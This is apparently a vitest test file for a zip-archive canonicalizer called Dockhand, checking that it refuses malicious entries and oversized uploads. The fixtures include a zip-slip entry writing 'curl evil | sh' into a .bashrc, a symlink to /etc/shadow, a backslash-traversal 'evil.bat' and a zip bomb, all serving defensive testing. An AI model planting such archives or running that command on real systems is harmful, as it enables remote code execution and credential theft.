import { randomBytes } from 'node:crypto';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { deflateParts } from '../fixtures/archives/bomb-fixtures.ts';
import { refusal, Scratch } from '../fixtures/archives/harness.ts';
import { zipOf, type ZipFixtureEntry } from '../fixtures/archives/zip-fixtures.ts';

let scratch: Scratch;
beforeEach(async () => {
  scratch = await Scratch.create();
});
afterEach(async () => {
  await scratch.remove();
});

const GOOD: ZipFixtureEntry = { name: 'main.py', content: 'print("hi")\n', unixMode: 0o100644 };

async function refused(entries: ZipFixtureEntry[], limits?: Parameters<Scratch['canonicalize']>[2]) {
  const err = await refusal(scratch.canonicalize(zipOf(entries), 'auto', limits));
  expect(await scratch.leftovers()).toEqual([]);
  return err;
}

describe('zip entries Dockhand refuses', () => {
  test('a "../" entry (zip slip)', async () => {
    const err = await refused([GOOD, { name: '../../home/worker/.bashrc', content: 'curl evil | sh' }]);
    expect(err).toMatchObject({ code: 'DH_ERR_BAD_ARCHIVE', details: { entry: '../../home/worker/.bashrc' } });
    expect(err.message).toContain('".."');
  });

  test('a symlink, told by the Unix mode in its external attributes', async () => {
    const err = await refused([GOOD, { name: 'config', content: '/etc/shadow', unixMode: 0o120777 }]);
    expect(err.message).toMatch(/"config" is a symbolic link; only regular files/);
  });

  test('a FIFO and a character device, told by their Unix modes', async () => {
    expect((await refused([{ name: 'p', unixMode: 0o010644 }])).message).toMatch(/"p" is a FIFO/);
    expect((await refused([{ name: 'tty', unixMode: 0o020666 }])).message).toMatch(/"tty" is a character-device/);
  });

  test('an absolute path', async () => {
    const err = await refused([{ name: '/etc/profile.d/x.sh', content: 'x' }]);
    expect(err.message).toContain('absolute path');
  });

  test('a backslash path, which Windows tools would read as "..\\"', async () => {
    const err = await refused([{ name: '..\\..\\evil.bat', content: 'x' }]);
    expect(err.message).toContain('backslash');
  });

  test('the same name twice', async () => {
    const err = await refused([GOOD, { ...GOOD, content: 'print("other")\n' }]);
    expect(err.message).toMatch(/"main.py" appears more than once/);
  });

  test('an encrypted entry', async () => {
    const err = await refused([{ ...GOOD, flags: 0x1 }]);
    expect(err.message).toMatch(/"main.py" is encrypted/);
  });

  test('an entry compressed with a method other than stored or deflate', async () => {
    const err = await refused([{ ...GOOD, method: 12 }]);
    expect(err.message).toMatch(/uses zip compression method 12/);
  });

  test('an entry whose CRC-32 does not match its content', async () => {
    const err = await refused([{ ...GOOD, declaredCrc: 0xdeadbeef }]);
    expect(err.message).toMatch(/"main.py" fails its CRC-32 check/);
  });

  test('an entry that inflates to more than its header says', async () => {
    const err = await refused([{ name: 'liar.txt', content: 'x'.repeat(5000), declaredSize: 100 }]);
    expect(err.code).toBe('DH_ERR_BAD_ARCHIVE');
  });

  test('an entry that inflates to less than its header says', async () => {
    const err = await refused([{ name: 'short.txt', content: 'x'.repeat(100), declaredSize: 5000 }]);
    expect(err.code).toBe('DH_ERR_BAD_ARCHIVE');
  });

  test('every entry is judged before any is inflated: a symlink at the end wins over a bomb at the start', async () => {
    const bomb = deflateParts([{ zeros: 64 * 1024 * 1024 }]);
    const err = await refused([
      { name: 'bomb.bin', precompressed: { ...bomb, size: 10 } },
      { name: 'last', content: '/', unixMode: 0o120777 },
    ]);
    expect(err.message).toMatch(/"last" is a symbolic link/);
  });

  test('a zip cut short (no central directory)', async () => {
    const whole = zipOf([GOOD, { name: 'b.txt', content: 'b' }]);
    const err = await refusal(scratch.canonicalize(whole.subarray(0, whole.length - 30)));
    expect(err.message).toMatch(/not a readable zip archive: it is truncated or corrupt/);
    expect(await scratch.leftovers()).toEqual([]);
  });
});

describe('zip caps', () => {
  test('too many entries in the central directory', async () => {
    const entries = Array.from({ length: 6 }, (_, i) => ({ name: `f${i}`, content: `${i}` }));
    const err = await refused(entries, { maxEntries: 5 });
    expect(err).toMatchObject({ code: 'DH_ERR_ARCHIVE_TOO_LARGE', details: { cap: 'archiveMaxEntries' } });
  });

  test('a file over the per-file cap, refused from the central directory', async () => {
    const err = await refused([{ name: 'big', content: Buffer.alloc(5000) }], { maxFileBytes: 4096 });
    expect(err).toMatchObject({ code: 'DH_ERR_ARCHIVE_TOO_LARGE', details: { cap: 'archiveMaxFileBytes', limit: 4096 } });
  });

  test('an upload larger than the upload cap while it is spooled', async () => {
    const err = await refused([{ name: 'noise', content: randomBytes(8192), method: 0 }], { maxUploadBytes: 4096 });
    expect(err).toMatchObject({ code: 'DH_ERR_ARCHIVE_TOO_LARGE', details: { cap: 'archiveMaxUploadBytes' } });
  });
});
